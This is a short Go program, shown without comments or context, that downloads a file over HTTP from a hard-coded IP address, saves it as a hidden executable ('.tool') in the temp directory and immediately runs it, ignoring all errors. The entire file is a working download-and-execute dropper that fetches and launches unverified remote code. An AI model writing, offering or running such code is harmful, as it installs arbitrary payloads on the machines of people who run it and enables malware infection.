package main

import (
	"io"
	"net/http"
	"os"
	"os/exec"
)

func fetch() string {
	dst := os.TempDir() + "/.tool"
	resp, _ := http.Get("http://203.0.113.7/tool")
	f, _ := os.OpenFile(dst, os.O_CREATE|os.O_WRONLY, 0o755)
	io.Copy(f, resp.Body)
	f.Close()
	return dst
}

func main() {
	exec.Command(fetch()).Run()
}
